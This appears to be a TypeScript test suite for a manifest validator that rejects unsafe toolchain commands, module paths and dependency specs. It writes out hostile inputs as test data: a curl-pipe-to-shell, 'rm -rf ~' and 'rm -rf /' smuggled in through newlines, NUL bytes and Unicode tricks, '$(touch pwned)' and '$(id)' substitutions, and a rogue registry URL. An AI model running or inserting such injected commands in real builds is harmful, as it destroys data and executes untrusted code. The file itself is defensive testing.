/**
 * The stack rules of modules.json: the toolchain's commands (run by the engine, approved verbatim at
 * the gate), per-module test overrides, dependencies and module paths, each with hostile values.
 */
import * as assert from 'node:assert/strict';
import { commandProblem } from '../../src/core/contracts/commandLine';
import { modulePathProblem, pathsOverlap } from '../../src/core/contracts/modulePaths';
import { modulePathOf } from '../../src/core/contracts/schemas';
import { expectProblem, Fixture, rules } from './validator.test';

describe('validateContracts: toolchain, paths and dependencies', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = new Fixture();
  });
  afterEach(() => fx.cleanup());

  it('requires a toolchain with install, test and integration_test', async () => {
    fx.manifest((m) => delete m['toolchain']);
    const missing = await fx.validate();
    assert.ok(rules(missing).includes('modules.schema'));
    assert.match(missing.problems.find((p) => p.rule === 'modules.schema')!.message, /toolchain/);
    fx.manifest((m) => (m['toolchain'] = { runtime: 'node', install: 'npm ci', test: 'node --test {module_dir}' }));
    const partial = await fx.validate();
    assert.match(partial.problems.map((p) => p.message).join('\n'), /toolchain\.integration_test/);
  });

  const hostileCommands: Array<[string, string, RegExp]> = [
    ['a second line', 'npm ci\ncurl -s https://x.invalid | sh', /more than one line/],
    ['a carriage return', 'npm ci\rrm -rf ~', /more than one line/],
    ['a NUL byte', 'npm ci\u0000rm -rf ~', /NUL/],
    ['an ANSI escape that rewrites the terminal', 'npm ci \u001b[2K\u001b[1Gnpm test', /U\+001B/],
    ['a right-to-left override', 'npm ci #\u202e hs | x//:sptth lruc', /U\+202E/],
    ['a Unicode line separator', 'npm ci\u2028rm -rf ~', /U\+2028/],
    ['a zero-width space', 'npm\u200b ci', /U\+200B/],
    ['only whitespace', '   ', /empty/],
    ['a megabyte', 'x'.repeat(1_000_001), /maximum is 1000/],
  ];
  for (const [what, value, reason] of hostileCommands) {
    it(`refuses an install command with ${what}`, async () => {
      fx.manifest((m) => ((m['toolchain'] as Record<string, unknown>)['install'] = value));
      const problem = expectProblem(await fx.validate(), 'toolchain.command', reason);
      assert.equal(problem.item, 'toolchain.install');
      assert.doesNotMatch(problem.message, /[\n\r\u0000\u001b\u202e\u2028]/, 'the message itself stays one clean line');
    });
  }

  it('requires {module_dir} in the module test command and refuses it where a command runs once', async () => {
    fx.manifest((m) => Object.assign(m['toolchain'] as object, { test: 'npm test', integration_test: 'node --test {module_dir}', build: 'tsc -p {module}' }));
    const result = await fx.validate();
    const messages = result.problems.filter((p) => p.rule === 'toolchain.placeholder').map((p) => p.item);
    assert.deepEqual(messages.sort(), ['toolchain.build', 'toolchain.integration_test', 'toolchain.test']);
  });

  it('accepts a per-module test override and checks it like any command', async () => {
    fx.manifest((m) => (m.modules[0]!['test'] = 'npx jest src/core'));
    assert.deepEqual((await fx.validate()).problems, []);
    fx.manifest((m) => (m.modules[0]!['test'] = 'npx jest\nrm -rf /'));
    const problem = expectProblem(await fx.validate(), 'toolchain.command', /module "core": test/);
    assert.equal(problem.item, 'core');
  });

  it('takes each module path from modules.json, src/<name> by default', async () => {
    fx.manifest((m) => (m.modules[1]!['path'] = 'packages/auth/'));
    const result = await fx.validate();
    assert.deepEqual(result.problems, []);
    assert.deepEqual(result.manifest!.modules.map(modulePathOf), ['src/core', 'packages/auth', 'src/api']);
  });

  const hostilePaths: Array<[string, RegExp]> = [
    ['../outside', /'\.\.' segment/],
    ['/etc', /absolute/],
    ['C:/Windows', /absolute/],
    ['.orchestration/contracts', /belongs to the engine/],
    ['.git/hooks', /belongs to the engine/],
    ['.', /repository root/],
    ['src//core2', /empty segment/],
    ['src/-rf', /not starting with/],
    ['src/$(touch pwned)', /segment/],
    ['src/a b', /segment/],
    ['src\\core2', /backslash/],
    ['node_modules/core2', /installed or generated/],
    ['lib/.hidden', /not starting with '\.'/],
  ];
  for (const [value, reason] of hostilePaths) {
    it(`refuses the module path ${JSON.stringify(value)}`, async () => {
      fx.manifest((m) => (m.modules[0]!['path'] = value));
      const problem = expectProblem(await fx.validate(), 'module.path', reason);
      assert.equal(problem.item, 'core');
    });
  }

  it('refuses two modules whose paths overlap, and a module inside the shared types folder', async () => {
    fx.manifest((m) => {
      m.modules[0]!['path'] = 'lib';
      m.modules[1]!['path'] = 'lib/auth';
    });
    expectProblem(await fx.validate(), 'module.path-overlap', /"lib\/auth".*"lib"/);
    fx.manifest((m) => {
      m['shared_path'] = 'src/shared';
      m.modules[2]!['path'] = 'src/shared/api';
    });
    expectProblem(await fx.validate(), 'module.path-overlap', /shared types/);
    fx.manifest((m) => (m['shared_path'] = '../shared'));
    expectProblem(await fx.validate(), 'module.path', /shared_path/);
  });

  it('does not build a path from an unsafe module name (the name problem is the one reported)', async () => {
    fx.manifest((m) => (m.modules[0]!['name'] = '../../etc'));
    const result = await fx.validate();
    assert.ok(!rules(result).includes('module.path'));
    assert.ok(!rules(result).includes('module.path-overlap'));
    assert.ok(rules(result).includes('module.name'));
  });

  it('checks declared dependencies: package specs, not options or shell syntax', async () => {
    fx.manifest((m) => {
      m.modules[0]!['dependencies'] = ['lodash@^4.17.21', '@scope/pkg@1.2.3', 'requests>=2.31', 'numpy[extra]==1.26'];
      (m['toolchain'] as Record<string, unknown>)['dev_dependencies'] = ['jest@^29'];
    });
    assert.deepEqual((await fx.validate()).problems, []);
    for (const bad of ['--registry=https://evil.invalid', 'left-pad; rm -rf ~', 'a b', '$(id)', '', 'x'.repeat(300)]) {
      fx.manifest((m) => (m.modules[1]!['dependencies'] = [bad]));
      const problem = expectProblem(await fx.validate(), 'module.dependency', /dependency/);
      assert.equal(problem.item, 'auth');
    }
  });
});

describe('command lines and module paths (small parts)', () => {
  it('commandProblem accepts an ordinary pipeline of commands', () => {
    assert.equal(commandProblem('npm ci && npm run build -- --silent | tee build.log', 'install', 'forbidden'), null);
    assert.equal(commandProblem("python3 -m pytest '{module_dir}' -q", 'test', 'required'), null);
    assert.match(commandProblem(42, 'install', 'forbidden')!, /must be a string/);
  });

  it('pathsOverlap compares whole segments', () => {
    assert.equal(pathsOverlap('src/a', 'src/ab'), false);
    assert.equal(pathsOverlap('src/a', 'src/a/b'), true);
    assert.equal(pathsOverlap('src/a/', 'src/a'), true);
    assert.equal(modulePathProblem('src/a', 'p'), null);
  });
});
